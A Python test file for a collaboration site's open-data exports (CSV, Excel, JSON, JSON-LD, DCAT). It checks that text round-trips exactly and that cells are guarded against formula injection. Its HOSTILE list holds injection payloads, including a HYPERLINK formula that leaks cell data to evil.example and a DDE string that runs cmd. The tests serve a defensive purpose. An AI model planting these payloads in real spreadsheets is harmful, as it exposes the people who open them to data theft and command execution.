"""What a group wrote comes out of every format letter for letter, and does no harm in any."""

import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as some
from openpyxl import load_workbook

from collaboration.open_data import csv_file, dcat, json_file, json_ld, xlsx_file
from collaboration.open_data.rows import TABLES, About, DataSet, StatementRow, TermRow, columns_of
from home.text import cells
from tests.open_data.reading import csv_rows, xlsx_sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''-",
    "#N/A",
    "TRUE",
    "2011-03-23",
    '"; drop',
    "æøå; «»",
    "_x000D_",
    "a\r\nb\x0bc",
    "<b>&amp;</b>",
    "\ufeffb",
]
# What PostgreSQL keeps: no NUL, no half of a pair.
texts = some.text(some.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=60)
wordings = some.one_of(
    some.sampled_from(HOSTILE), some.tuples(some.sampled_from("=+-@\t\r\n'＝ "), texts).map("".join), texts
)
ABOUT = About(
    title="Hva som ble sagt",
    description="Alt",
    kinds={"goal": ("Mål", "https://example.org/samarbeid/maal/")},
    language="nb",
    publisher="Fire bibliotek",
    publisher_url="",
    contact_email="",
    licence="CC BY 4.0",
    licence_url="https://creativecommons.org/licenses/by/4.0/",
    licence_authority="http://publications.europa.eu/resource/authority/licence/CC_BY_4_0",
    page_url="https://example.org/samarbeid/data/",
    api_url="https://example.org/api/v2/",
    site_url="https://example.org/",
)
NAMES = {"": "Om", **{table: table for table in TABLES}}
WORDS = {table: dict.fromkeys(columns_of(table), "…") for table in TABLES}


def said(wording):
    empty = dict.fromkeys(columns_of("statements"), "")
    return StatementRow(**{**empty, "uri": "https://example.org/id/1", "wording": wording, "position": 1})


def term(name="Bokbuss", **fields):
    empty = dict.fromkeys(columns_of("terms"), "")
    empty.update(aliases=(), statements=1, organisations=0, shared=False, kind="goal", uri="https://example.org/id/2")
    return TermRow(**{**empty, "name": name, **fields})


def data(**tables):
    return DataSet(ABOUT, tables)


@given(some.lists(wordings, min_size=1, max_size=5))
def test_a_wording_comes_out_of_csv_as_it_went_in(words):
    for language, separator in (("nb", ";"), ("en", ",")):
        rows = csv_rows(csv_file.write("statements", map(said, words), language), separator)
        assert [row["wording"] for row in rows] == words


@given(wordings)
def test_no_cell_of_csv_begins_as_a_formula(wording):
    cell = cells.guarded(wording)
    assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert cells.unguarded(cell) == wording


def test_what_is_no_formula_is_left_as_it_is():
    for wording in ("samarbeid - mer", "a=b", "'sitat'", "’n", "1+1", ""):
        assert cells.guarded(wording) == wording


@given(some.lists(wordings, min_size=1, max_size=5))
def test_a_wording_comes_out_of_a_workbook_as_it_went_in_and_as_text(words):
    content = xlsx_file.write(data(statements=[said(word) for word in words]), NAMES, WORDS, [("Lisens", "CC BY 4.0")])
    rows = xlsx_sheets(content)["statements"]
    assert [row["wording"] or "" for row in rows] == words
    sheet = load_workbook(io.BytesIO(content))["statements"]
    assert {cell.data_type for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)} <= {"s", "n", "inlineStr"}
    assert all(
        cell.value is None for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2) if cell.data_type == "n"
    )


def test_a_workbook_says_first_what_it_is_and_what_its_columns_mean():
    book = load_workbook(
        io.BytesIO(xlsx_file.write(data(terms=[term()]), NAMES, WORDS, [("Lisens", "CC BY 4.0")])), read_only=True
    )
    assert book.sheetnames == ["Om", "terms"]
    cells = [cell for row in book["Om"].iter_rows(values_only=True) for cell in row if cell]
    assert "CC BY 4.0" in cells
    assert set(columns_of("terms")) <= set(cells)


def test_a_text_longer_than_a_cell_may_be_is_cut_and_shows_it():
    content = xlsx_file.write(data(terms=[term(description="å" * 40_000)]), NAMES, WORDS, [])
    (row,) = xlsx_sheets(content)["terms"]
    assert (len(row["description"]), row["description"][-1]) == (xlsx_file.MOST_CHARACTERS, "…")


def test_numbers_are_numbers_and_truth_is_truth():
    (row,) = xlsx_sheets(xlsx_file.write(data(terms=[term(shared=True)]), NAMES, WORDS, []))["terms"]
    assert (row["statements"], row["shared"]) == (1, True)
    (row,) = json.loads(json_file.write(data(terms=[term(shared=True)])))["terms"]
    assert (row["statements"], row["shared"], row["aliases"]) == (1, True, [])
    (row,) = csv_rows(csv_file.write("terms", [term(aliases=("a", "b"))], "nb"))
    assert (row["shared"], row["aliases"]) == ("false", "a | b")


@given(wordings)
def test_a_wording_comes_out_of_json_as_it_went_in(wording):
    files = data(statements=[said(wording)])
    assert json.loads(json_file.write(files))["statements"][0]["wording"] == wording
    nodes = json.loads(json_ld.write(files))["@graph"]
    assert [node.get("text", "") for node in nodes if node["@type"] == "Quotation"] == [wording]


def test_excel_reads_the_letters_of_norwegian():
    assert csv_file.write("terms", [], "nb").startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(("language", "separator"), [("nb", ";"), ("nn", ";"), ("se", ";"), ("sv", ";"), ("en", ",")])
def test_cells_are_apart_as_the_languages_spreadsheets_expect(language, separator):
    assert csv_file.write("terms", [], language).decode("utf-8-sig").startswith(f'"uri"{separator}"url"')


def test_terms_are_defined_in_the_set_of_their_kind():
    nodes = json.loads(json_ld.write(data(terms=[term("Møtes oftere"), term("Låne mer")])))["@graph"]
    (found,) = [node for node in nodes if node["@type"] == "DefinedTermSet"]
    assert found["@id"] == "https://example.org/samarbeid/maal/"
    assert found["license"] == ABOUT.licence_url
    assert [node["name"] for node in found["hasDefinedTerm"]] == ["Møtes oftere", "Låne mer"]


def test_the_same_rows_have_the_same_etag_and_others_another():
    one = data(terms=[term("a")])
    assert one.etag("terms.csv") == data(terms=[term("a")]).etag("terms.csv")
    others = {one.etag("terms.json"), data(terms=[term("b")]).etag("terms.csv"), data(terms=[]).etag("terms.csv")}
    assert one.etag("terms.csv") not in others
    assert len(others) == 3


def test_a_catalogue_describes_the_data_set_as_the_norwegian_profile_asks():
    files = [dcat.File("https://example.org/samarbeid/data/terms.csv", "csv", "Stikkord (CSV)")]
    document = json.loads(dcat.write(ABOUT, files, None, ABOUT.page_url))
    nodes = {node["@type"]: node for node in document["@graph"]}
    assert {"dcat:Catalog", "dcat:Dataset", "dcat:Distribution", "dcat:DataService", "foaf:Agent"} <= nodes.keys()
    required = {"dct:title", "dct:description", "dct:publisher", "dct:identifier", "dcat:theme", "dcat:contactPoint"}
    assert required <= nodes["dcat:Dataset"].keys()
    assert nodes["dcat:Dataset"]["dcat:distribution"] == [{"@id": files[0].url}]
    assert nodes["dcat:Distribution"]["dct:license"] == {"@id": ABOUT.licence_authority}
    assert nodes["dcat:Dataset"]["dct:language"]["@id"].endswith("/language/NOB")
    # Whatever is pointed to within the description is in it.
    known = {node["@id"] for node in document["@graph"]}
    assert nodes["dcat:Dataset"]["dct:publisher"]["@id"] in known
    assert nodes["dcat:Dataset"]["dcat:contactPoint"]["@id"] in known
